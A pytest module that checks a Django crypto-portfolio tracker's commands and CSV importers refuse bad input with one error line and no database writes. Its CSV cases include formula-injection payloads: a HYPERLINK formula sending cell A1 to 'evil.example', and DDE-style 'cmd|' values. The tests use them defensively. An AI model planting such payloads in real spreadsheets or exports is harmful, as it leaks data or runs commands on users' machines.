"""Bad input, for every command and importer (issue 6, item 6): exit != 0, one line naming the
problem (and the line of the file), nothing written.

One table. Every case runs through call_command; the cases marked SUBPROCESS also run as the real
`manage.py` in a subprocess, to check the exit status and that stderr is one line, no traceback.
What the importers' services do with each value is tested in depth in tests/test_import_*.py;
this is the view from the command line.
"""

import io
import subprocess
import sys
import time
from dataclasses import dataclass

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from snapshots.services.snapshots import take_snapshot
from tests.conftest import utc
from tests.csv_factory import HEADER as TX_HEADER
from tests.forked_manage import run_manage
from tests.jobs_support import ROOT, process_env

pytestmark = pytest.mark.faults

PRICE_HEADER = "chain,token,as_of,price_usd"
# A stored holding on the same wallet, token and chain the bad files name (see `history`).
WALLET = "0x00000000000000000000000000000000000000aa"


def tx_row(amount="1", price="100", at="2026-01-05T00:00:00Z", tx_hash="0xh1", kind="buy"):
    return f"{WALLET},ethereum,ETH,{kind},confirmed,{amount},{price},{at},{tx_hash}"


def price_row(price="3000", at="2026-01-05T00:00:00Z", token="ETH", chain="ethereum"):
    return f"{chain},{token},{at},{price}"


def csv_bytes(header, *rows):
    return "\n".join([header, *rows]).encode() + b"\n"


GOOD_TX = tx_row(tx_hash="0xgood")
GOOD_PRICE = price_row(at="2026-01-04T00:00:00Z")
NOT_UTF8 = "É".encode("latin-1")
BOM = b"\xef\xbb\xbf"


@dataclass
class Case:
    id: str
    args: list
    message: str  # a fragment of the one line printed
    file: bytes = None  # written to a temporary file, passed where args say {file}
    subprocess: bool = False

    def argv(self, path):
        return [str(path) if a == "{file}" else a for a in self.args]


def tx_file(id, data, message, **kwargs):
    return Case(f"import_transactions: {id}", ["import_transactions", "{file}"], message, file=data, **kwargs)


def price_file(id, data, message, **kwargs):
    return Case(f"import_prices: {id}", ["import_prices", "{file}"], message, file=data, **kwargs)


CASES = [
    # create_snapshots
    Case(
        "create_snapshots: unknown period",
        ["create_snapshots", "--period", "yearly"],
        "invalid choice: 'yearly'",
        subprocess=True,
    ),
    Case(
        "create_snapshots: malformed --at",
        ["create_snapshots", "--period", "daily", "--at", "yesterday"],
        "--at: 'yesterday' is not an ISO 8601 date or time",
    ),
    Case(
        "create_snapshots: impossible date",
        ["create_snapshots", "--period", "daily", "--at", "2026-02-30"],
        "--at: '2026-02-30' is not an ISO 8601",
    ),
    Case(
        "create_snapshots: offset out of range",
        ["create_snapshots", "--period", "hourly", "--at", "2026-01-01T00:00+25:00"],
        "is not an ISO 8601",
    ),
    Case(
        "create_snapshots: time without offset",
        ["create_snapshots", "--period", "hourly", "--at", "2026-01-05T10:30:00"],
        "has no UTC offset",
    ),
    Case(
        "create_snapshots: future",
        ["create_snapshots", "--period", "daily", "--at", "2999-01-01"],
        "--at 2999-01-01 is in the future",
    ),
    Case(
        "create_snapshots: year 1 with an offset",
        ["create_snapshots", "--period", "daily", "--at", "0001-01-01T00:00+01:00"],
        "--at 0001-01-01T00:00+01:00 is before 2009-01-03",
        subprocess=True,
    ),
    Case(
        "create_snapshots: year 9999 with an offset",
        ["create_snapshots", "--period", "hourly", "--at", "9999-12-31T23:00-05:00"],
        "--at 9999-12-31T23:00-05:00 is in the future",
    ),
    Case(
        "create_snapshots: before the first block",
        ["create_snapshots", "--period", "daily", "--at", "2000-01-01"],
        "--at 2000-01-01 is before 2009-01-03",
    ),
    Case(
        "create_snapshots: a weekly boundary before the first block",
        ["create_snapshots", "--period", "weekly", "--at", "2009-01-03"],
        "weekly boundary 2008-12-28T00:00:00Z is before 2009-01-03",
    ),
    # recalculate
    Case(
        "recalculate: unknown wallet",
        ["recalculate", "--wallet", "999999"],
        "wallet 999999 does not exist",
        subprocess=True,
    ),
    Case("recalculate: negative id", ["recalculate", "--wallet", "-1"], "wallet -1 does not exist"),
    Case(
        "recalculate: id beyond bigint",
        ["recalculate", "--wallet", "99999999999999999999"],
        "wallet 99999999999999999999 does not exist",
    ),
    Case(
        "recalculate: id not a number",
        ["recalculate", "--wallet", "abc"],
        "argument --wallet: invalid int value: 'abc'",
    ),
    Case(
        "recalculate: Arabic-Indic digits",
        ["recalculate", "--wallet", "\u0661"],
        "argument --wallet: invalid int value: '\u0661' (ASCII digits)",
        subprocess=True,
    ),
    Case("recalculate: full-width digits", ["recalculate", "--wallet", "\uff11"], "invalid int value"),
    Case("recalculate: underscores", ["recalculate", "--wallet", "1_000"], "invalid int value: '1_000'"),
    Case("recalculate: no target", ["recalculate"], "one of the arguments --wallet --all is required"),
    Case("recalculate: two targets", ["recalculate", "--wallet", "1", "--all"], "not allowed with argument --wallet"),
    Case(
        "recalculate --async: unknown wallet",
        ["recalculate", "--wallet", "999999", "--async"],
        "wallet 999999 does not exist",
    ),
    # backfill_snapshots
    Case(
        "backfill: since after until",
        ["backfill_snapshots", "--period", "daily", "--since", "2026-03-02", "--until", "2026-03-01"],
        "--since 2026-03-02 is after --until 2026-03-01",
        subprocess=True,
    ),
    Case(
        "backfill: unknown period",
        ["backfill_snapshots", "--period", "fortnightly", "--since", "2026-01-01"],
        "invalid choice: 'fortnightly'",
    ),
    Case(
        "backfill: malformed since",
        ["backfill_snapshots", "--period", "daily", "--since", "March"],
        "--since: 'March' is not an ISO 8601",
    ),
    Case(
        "backfill: malformed until",
        ["backfill_snapshots", "--period", "daily", "--since", "2026-01-01", "--until", "2026-01-01T25:00Z"],
        "--until: '2026-01-01T25:00Z' is not an ISO 8601",
    ),
    Case(
        "backfill: future since",
        ["backfill_snapshots", "--period", "daily", "--since", "2999-01-01"],
        "--since 2999-01-01 is in the future",
    ),
    Case(
        "backfill: unknown wallet",
        ["backfill_snapshots", "--period", "daily", "--since", "2026-01-01", "--wallet", "999999"],
        "wallet 999999 does not exist",
    ),
    Case(
        "backfill: Arabic-Indic wallet id",
        ["backfill_snapshots", "--period", "daily", "--since", "2026-01-01", "--wallet", "\u0661"],
        "invalid int value",
    ),
    # cleanup_snapshots
    Case(
        "cleanup: unknown option",
        ["cleanup_snapshots", "--days", "3"],
        "unrecognized arguments: --days 3",
        subprocess=True,
    ),
    # refresh_snapshots
    Case(
        "refresh: unknown option",
        ["refresh_snapshots", "--wallet", "3"],
        "unrecognized arguments: --wallet 3",
        subprocess=True,
    ),
    # export_snapshots
    Case(
        "export_snapshots: since after until",
        ["export_snapshots", "--period", "daily", "--since", "2026-03-02", "--until", "2026-03-01"],
        "is after --until",
        subprocess=True,
    ),
    Case("export_snapshots: unknown period", ["export_snapshots", "--period", "yearly"], "invalid choice: 'yearly'"),
    Case(
        "export_snapshots: malformed since",
        ["export_snapshots", "--period", "daily", "--since", "31/12/2026"],
        "--since: '31/12/2026' is not an ISO 8601",
    ),
    Case(
        "export_snapshots: unknown format",
        ["export_snapshots", "--period", "daily", "--format", "xml"],
        "invalid choice: 'xml'",
    ),
    # export_balances
    Case(
        "export_balances: unknown wallet",
        ["export_balances", "--wallet", "999999"],
        "wallet 999999 does not exist",
        subprocess=True,
    ),
    Case("export_balances: id not a number", ["export_balances", "--wallet", "0x1"], "invalid int value: '0x1'"),
    Case("export_balances: full-width id", ["export_balances", "--wallet", "\uff11"], "invalid int value"),
    Case("export_balances: unknown format", ["export_balances", "--format", "xlsx"], "invalid choice: 'xlsx'"),
    # merge_wallet_case_variants
    Case(
        "merge_wallet_case_variants: unknown chain",
        ["merge_wallet_case_variants", "--chain", "nosuchchain"],
        "chain 'nosuchchain' does not exist",
        subprocess=True,
    ),
    # jobs_status
    Case(
        "jobs_status: both outputs",
        ["jobs_status", "--json", "--quiet"],
        "not allowed with argument --json",
        subprocess=True,
    ),
    # import_transactions
    Case(
        "import_transactions: missing file",
        ["import_transactions", "/nonexistent/tx.csv"],
        "cannot read /nonexistent/tx.csv: No such file or directory",
    ),
    Case("import_transactions: a directory", ["import_transactions", "/tmp"], "cannot read /tmp: Is a directory"),
    tx_file("empty file", b"", "the file is empty; expected a header line"),
    tx_file("BOM only", BOM, "the file is empty"),
    tx_file("header only", csv_bytes(TX_HEADER), "the file has a header but no rows"),
    tx_file(
        "semicolons",
        csv_bytes(TX_HEADER.replace(",", ";"), GOOD_TX.replace(",", ";")),
        "line 1: the header is separated by ';'",
    ),
    tx_file("tabs", csv_bytes(TX_HEADER.replace(",", "\t")), "line 1: the header is separated by tab"),
    tx_file(
        "not UTF-8",
        csv_bytes(TX_HEADER, GOOD_TX) + tx_row(tx_hash="0x2").replace("ETH", "ÉTH").encode("latin-1"),
        "line 3: byte 0xc9 at column",
        subprocess=True,
    ),
    tx_file("NUL bytes", csv_bytes(TX_HEADER) + b"\x00\x01\x02", "line 2: contains a NUL byte"),
    tx_file(
        "amount NaN",
        csv_bytes(TX_HEADER, GOOD_TX, tx_row("NaN", tx_hash="0x2")),
        "line 3: amount 'NaN' is not a finite number",
    ),
    tx_file(
        "amount Infinity", csv_bytes(TX_HEADER, tx_row("Infinity")), "line 2: amount 'Infinity' is not a finite number"
    ),
    tx_file("amount -1", csv_bytes(TX_HEADER, tx_row("-1")), "line 2: amount -1 must be greater than 0"),
    tx_file(
        "amount 1e400", csv_bytes(TX_HEADER, tx_row("1e400")), "line 2: amount 1e400 has 401 integer digits; at most 60"
    ),
    tx_file("amount of 61 digits", csv_bytes(TX_HEADER, tx_row("9" * 61)), "line 2: amount 999"),
    tx_file("amount of 19 places", csv_bytes(TX_HEADER, tx_row("0." + "0" * 18 + "1")), "has 19 decimal places"),
    tx_file("price NaN", csv_bytes(TX_HEADER, tx_row(price="NaN")), "line 2: price_usd 'NaN' is not a finite number"),
    tx_file("price of 61 digits", csv_bytes(TX_HEADER, tx_row(price="9" * 61)), "has 61 integer digits; at most 20"),
    tx_file(
        "amount of 100,000 digits",
        csv_bytes(TX_HEADER, tx_row("9" * 100_000)),
        "line 2: amount '99999999999999999999'… (100,000 characters) has 100000 integer digits; at most 60 fit",
        subprocess=True,
    ),
    tx_file("amount 1_000", csv_bytes(TX_HEADER, tx_row("1_000")), "line 2: amount '1_000' is not a number"),
    tx_file("amount in Arabic-Indic digits", csv_bytes(TX_HEADER, tx_row("١٢")), "amount '١٢' is not a number"),
    tx_file("amount in full-width digits", csv_bytes(TX_HEADER, tx_row("１２")), "amount '１２' is not a number"),
    tx_file(
        "timestamp near year 1 with an offset",
        csv_bytes(TX_HEADER, tx_row(at="0001-01-01T00:00:00+01:00")),
        "line 2: timestamp '0001-01-01T00:00:00+01:00' is before 2009-01-03",
        subprocess=True,
    ),
    tx_file(
        "timestamp near year 9999 with an offset",
        csv_bytes(TX_HEADER, tx_row(at="9999-12-31T23:00:00-05:00")),
        "line 2: timestamp '9999-12-31T23:00:00-05:00' is more than one day in the future",
    ),
    tx_file(
        "timestamp before the first block",
        csv_bytes(TX_HEADER, tx_row(at="2008-01-01T00:00:00Z")),
        "line 2: timestamp '2008-01-01T00:00:00Z' is before 2009-01-03",
    ),
    tx_file(
        "a byte-order mark inside a field",
        csv_bytes(TX_HEADER, tx_row().replace(",ETH,", ",\ufeffETH,")),
        "line 2: token '\\ufeffETH' contains an invisible or control character (U+FEFF",
    ),
    tx_file(
        "a BOM at the start of a data line",
        csv_bytes(TX_HEADER, "\ufeff" + tx_row()),
        "line 2: wallet '\\ufeff0x",
    ),
    tx_file(
        "a quoted newline inside an address",
        csv_bytes(TX_HEADER, tx_row().replace(WALLET, f'"{WALLET[:10]}\n{WALLET[10:]}"')),
        "line 2: wallet '0x00000000\\n",
    ),
    tx_file(
        "a formula as the wallet",
        csv_bytes(TX_HEADER, tx_row().replace(WALLET, '"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"')),
        "line 2: wallet '=HYPERLINK",
        subprocess=True,
    ),
    tx_file(
        "a formula as the token",
        csv_bytes(TX_HEADER, tx_row().replace(",ETH,", ",+cmd|'/C calc'!A0,")),
        "begins with '+'",
    ),
    tx_file("a formula as the tx hash", csv_bytes(TX_HEADER, tx_row(tx_hash="@SUM(1+1)*cmd|x")), "begins with '@'"),
    tx_file(
        "an EVM address with a wrong checksum",
        csv_bytes(TX_HEADER, tx_row().replace(WALLET, "0x52908400098527886E0F7030069857D2E4169Ee7")),
        "wrong EIP-55 checksum",
    ),
    tx_file(
        "a 2 MB line",
        csv_bytes(TX_HEADER, tx_row(tx_hash="0x" + "f" * 2_000_000)),
        "line 2: the line is longer than 1,048,576 bytes",
    ),
    tx_file(
        "a record of quoted fields running on over many lines",
        csv_bytes(TX_HEADER) + b"0xa," + b'"x\n",' * 300_000,
        "line 2: the record (lines 2-",
    ),
    tx_file(
        "timestamp without offset",
        csv_bytes(TX_HEADER, tx_row(at="2026-01-05T00:00:00")),
        "line 2: timestamp '2026-01-05T00:00:00' has no UTC offset",
    ),
    tx_file(
        "malformed timestamp",
        csv_bytes(TX_HEADER, tx_row(at="05/01/2026")),
        "line 2: timestamp '05/01/2026' is not an ISO 8601 date-time",
    ),
    tx_file(
        "a duplicate tx_hash with other values",
        csv_bytes(TX_HEADER, GOOD_TX, tx_row("2", tx_hash="0xgood")),
        "line 3: same wallet, token, tx_hash and kind as line 2",
    ),
    tx_file(
        "a sale of more than is held",
        csv_bytes(TX_HEADER, tx_row("5", kind="sell")),
        "line 2: would make a running amount negative",
    ),
    # import_prices
    price_file(
        "unknown token",
        csv_bytes(PRICE_HEADER, GOOD_PRICE, price_row(token="DOGE")),
        "line 3: unknown token 'DOGE' on ethereum",
        subprocess=True,
    ),
    price_file("unknown chain", csv_bytes(PRICE_HEADER, price_row(chain="bitcoin")), "line 2: unknown chain 'bitcoin'"),
    price_file("empty file", b"", "the file is empty; expected a header line: chain,token,as_of,price_usd"),
    price_file("BOM only", BOM, "the file is empty"),
    price_file("header only", csv_bytes(PRICE_HEADER), "the file has a header but no rows"),
    price_file("semicolons", csv_bytes(PRICE_HEADER.replace(",", ";")), "line 1: the header is separated by ';'"),
    price_file(
        "not UTF-8",
        csv_bytes(PRICE_HEADER, GOOD_PRICE) + NOT_UTF8 + b"thereum,ETH,2026-01-05T00:00:00Z,1\n",
        "line 3: byte 0xc9 at column 1 is not UTF-8",
    ),
    price_file(
        "price NaN", csv_bytes(PRICE_HEADER, price_row("NaN")), "line 2: price_usd 'NaN' is not a finite number"
    ),
    price_file("price Infinity", csv_bytes(PRICE_HEADER, price_row("Infinity")), "not a finite number"),
    price_file("price -1", csv_bytes(PRICE_HEADER, price_row("-1")), "line 2: price_usd -1 must not be negative"),
    price_file("price 1e400", csv_bytes(PRICE_HEADER, price_row("1e400")), "has 401 integer digits; at most 20"),
    price_file("price of 61 digits", csv_bytes(PRICE_HEADER, price_row("9" * 61)), "has 61 integer digits; at most 20"),
    price_file(
        "price of 19 places", csv_bytes(PRICE_HEADER, price_row("0." + "0" * 18 + "1")), "has 19 decimal places"
    ),
    price_file("as_of without offset", csv_bytes(PRICE_HEADER, price_row(at="2026-01-05 00:00")), "has no UTC offset"),
    price_file(
        "as_of near year 1 with an offset",
        csv_bytes(PRICE_HEADER, price_row(at="0001-01-01T00:00:00+01:00")),
        "line 2: as_of '0001-01-01T00:00:00+01:00' is before 2009-01-03",
        subprocess=True,
    ),
    price_file(
        "as_of near year 9999 with an offset",
        csv_bytes(PRICE_HEADER, price_row(at="9999-12-31T23:00:00-05:00")),
        "is more than one day in the future",
    ),
    price_file("price 1_000", csv_bytes(PRICE_HEADER, price_row("1_000")), "line 2: price_usd '1_000' is not a number"),
    price_file(
        "malformed as_of", csv_bytes(PRICE_HEADER, price_row(at="2026-01-05T24:61Z")), "is not an ISO 8601 date-time"
    ),
    price_file(
        "a duplicate with another price",
        csv_bytes(PRICE_HEADER, GOOD_PRICE, price_row("1", at="2026-01-04T00:00:00Z")),
        "line 3: same token and as_of as line 2 but a different price",
    ),
]

TABLES = [
    "bagtracker_chain",
    "bagtracker_wallet",
    "bagtracker_token",
    "bagtracker_transaction",
    "bagtracker_price",
    "snapshots_balance",
    "snapshots_balancesnapshot",
    "snapshots_snapshotrun",
    "django_q_schedule",
    "django_q_ormq",
    "django_q_task",
]


def database_state():
    state = {}
    with connection.cursor() as cursor:
        for table in TABLES:
            cursor.execute(f"SELECT * FROM {table} ORDER BY 1")
            state[table] = cursor.fetchall()
    return state


@pytest.fixture
def history(make_wallet, token, make_tx, make_price):
    """A wallet holding 2 ETH, a price, a completed daily snapshot: what a bad command must not touch."""
    wallet = make_wallet(address=WALLET)
    make_tx("buy", "2", price="100", at=utc(2026, 1, 1), on_wallet=wallet, tx_hash="0xstored")
    make_price("3000", utc(2026, 1, 2))
    take_snapshot("daily", utc(2026, 1, 3), "manual")
    return wallet


def file_for(case, tmp_path):
    path = tmp_path / "input.csv"
    if case.file is not None:
        path.write_bytes(case.file)
    return path


@pytest.mark.django_db
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_with_one_line_and_nothing_written(case, history, tmp_path):
    before = database_state()
    with pytest.raises(CommandError) as refused:
        call_command(*case.argv(file_for(case, tmp_path)), stdout=io.StringIO(), stderr=io.StringIO())
    message = str(refused.value)
    assert case.message in message
    assert "\n" not in message
    assert database_state() == before


SUBPROCESS_CASES = [c for c in CASES if c.subprocess]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("case", SUBPROCESS_CASES, ids=[c.id for c in SUBPROCESS_CASES])
def test_the_real_manage_py_exits_non_zero_with_one_line_on_stderr(case, history, tmp_path):
    before = database_state()
    result = run_manage(case.argv(file_for(case, tmp_path)), env=process_env())
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert case.message in result.stderr
    assert database_state() == before


def test_every_command_is_in_the_table():
    from django.core.management import get_commands

    ours = {name for name, app in get_commands().items() if app in ("bagtracker", "snapshots")}
    ours -= {"seed_demo", "demo_admin", "embedded_db"}  # development helpers, not the product's interface
    assert ours == {c.args[0] for c in CASES}
    assert ours == {c.args[0] for c in SUBPROCESS_CASES}


@pytest.mark.django_db
def test_what_the_contract_accepts_is_accepted(history, tmp_path):
    """Not errors: a BOM and CRLF endings; a row repeated identically (stored once with a tx_hash;
    a price once); the same file again (adds nothing); a command date without a time (00:00 UTC)."""
    from bagtracker.models import Price, Transaction
    from snapshots.models import SnapshotRun

    transactions = tmp_path / "tx.csv"
    transactions.write_bytes(BOM + csv_bytes(TX_HEADER, GOOD_TX, GOOD_TX).replace(b"\n", b"\r\n"))
    prices = tmp_path / "prices.csv"
    prices.write_bytes(BOM + csv_bytes(PRICE_HEADER, GOOD_PRICE, GOOD_PRICE).replace(b"\n", b"\r\n"))
    for _ in range(2):
        call_command("import_transactions", str(transactions), stdout=io.StringIO())
        call_command("import_prices", str(prices), stdout=io.StringIO())
    assert Transaction.objects.filter(tx_hash="0xgood").count() == 1
    assert Price.objects.count() == 2

    call_command("create_snapshots", "--period", "hourly", "--at", "2026-01-05", stdout=io.StringIO())
    assert SnapshotRun.objects.filter(period="hourly", as_of=utc(2026, 1, 5, 0)).exists()


# --- output to a reader that stops reading; input that never ends ---------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("args", [["export_snapshots", "--period", "daily"], ["export_balances"]])
def test_an_export_into_a_closed_pipe_stops_quietly(args, history):
    """`export_snapshots | head -1`: the reader is gone before the command writes; exit 0, no traceback."""
    process = subprocess.Popen(
        [sys.executable, "manage.py", *args],
        cwd=ROOT,
        env=process_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    process.stdout.close()  # like `head -1` once it has its line: every write now fails with EPIPE
    try:
        stderr = process.communicate(timeout=60)[1]
    finally:
        process.kill()
    assert "Traceback" not in stderr and "BrokenPipeError" not in stderr, stderr
    assert stderr == ""
    assert process.returncode == 0


def test_the_shell_pipeline_to_head_prints_one_line(tmp_path):
    result = subprocess.run(
        ["bash", "-c", f"set -o pipefail; {sys.executable} manage.py export_snapshots --period daily | head -1"],
        cwd=ROOT,
        env=process_env(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.stdout == (
        "period,as_of,wallet,chain,token,amount,price_usd,value_usd,cost_basis_usd,realized_pnl_usd,cost_basis_method,"
        "source\n"
    )
    assert result.stderr == "" and result.returncode == 0


# Runs a command and prints its peak RSS (KiB): the only child of this wrapper is the command.
PEAK_RSS = (
    "import resource, subprocess, sys;"
    "r = subprocess.run(sys.argv[1:], capture_output=True, text=True);"
    "sys.stderr.write(r.stderr);"
    "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
)
MAX_PEAK_RSS_KIB = 150 * 1024


def _refused_import(path, command="import_transactions"):
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-c", PEAK_RSS, sys.executable, "manage.py", command, str(path)],
        cwd=ROOT,
        env=process_env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    returncode, peak_kib = map(int, result.stdout.split())
    return returncode, peak_kib, result.stderr, time.monotonic() - started


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("command", ["import_transactions", "import_prices"])
def test_a_200_mb_line_is_refused_quickly_in_bounded_memory(command, tmp_path):
    path = tmp_path / "one-line.csv"
    with path.open("wb") as out:
        out.write((TX_HEADER if command == "import_transactions" else PRICE_HEADER).encode() + b"\n")
        chunk = b"a" * (8 * 1024 * 1024)
        for _ in range(25):  # 200 MB, no newline
            out.write(chunk)
    returncode, peak_kib, stderr, seconds = _refused_import(path, command)
    assert returncode == 1
    assert stderr.strip().splitlines() == [
        "CommandError: line 2: the line is longer than 1,048,576 bytes; this is not an import CSV file"
    ]
    assert peak_kib < MAX_PEAK_RSS_KIB, f"peak RSS {peak_kib / 1024:.0f} MiB"
    assert seconds < 30


@pytest.mark.django_db(transaction=True)
def test_dev_zero_is_refused_quickly_in_bounded_memory():
    returncode, peak_kib, stderr, seconds = _refused_import("/dev/zero")
    assert returncode == 1
    assert stderr.strip().splitlines() == [
        "CommandError: line 1: the line is longer than 1,048,576 bytes; this is not an import CSV file"
    ]
    assert peak_kib < MAX_PEAK_RSS_KIB, f"peak RSS {peak_kib / 1024:.0f} MiB"
    assert seconds < 30


@pytest.mark.django_db(transaction=True)
def test_a_100000_digit_amount_is_one_short_line_and_no_psycopg_warning(history, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_bytes(csv_bytes(TX_HEADER, tx_row("9" * 100_000)))
    result = subprocess.run(
        [sys.executable, "manage.py", "import_transactions", str(path)],
        cwd=ROOT,
        env=process_env(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 1
    assert result.stdout == ""  # psycopg's "error ignored terminating Copy" warning went to the log (stdout)
    (line,) = result.stderr.strip().splitlines()
    assert len(line) < 200, line


# --- ranges and filters are clamped, not refused --------------------------------------------------


@pytest.mark.django_db
def test_export_filters_far_outside_are_clamped(history):
    out = io.StringIO()
    call_command(
        "export_snapshots",
        "--period",
        "daily",
        "--since",
        "0001-01-01T00:00+01:00",
        "--until",
        "9999-12-31T23:00-05:00",
        stdout=out,
    )
    assert len(out.getvalue().splitlines()) == 2  # the header and the snapshot of `history`


@pytest.mark.django_db
def test_a_backfill_from_year_1_starts_at_the_first_transaction(history, settings):
    from snapshots.models import SnapshotRun

    settings.BALANCE_WEEKLY_RETENTION_DAYS = 0  # kept forever: only the first transaction bounds it
    out = io.StringIO()
    call_command(
        "backfill_snapshots",
        "--period",
        "weekly",
        "--since",
        "0001-01-01T00:00+01:00",
        "--until",
        "2026-01-20",
        stdout=out,
        stderr=io.StringIO(),
    )
    assert "before the first confirmed transaction of any wallet (2026-01-01T00:00Z): clamped to it" in out.getvalue()
    assert "Backfilled 3 weekly boundaries (2026-01-04T00:00Z to 2026-01-18T00:00Z)" in out.getvalue()
    assert not SnapshotRun.objects.filter(as_of__year__lt=2026).exists()


@pytest.mark.django_db
def test_a_task_given_a_future_at_records_nothing(history):
    from snapshots.models import SnapshotRun
    from snapshots.tasks import create_daily_snapshots

    before = database_state()
    result = create_daily_snapshots(at="2099-01-01T00:00:00+00:00")
    assert result["status"] == "error" and "in the future" in result["error"]
    assert not SnapshotRun.objects.filter(as_of__year=2099).exists()
    assert database_state() == before
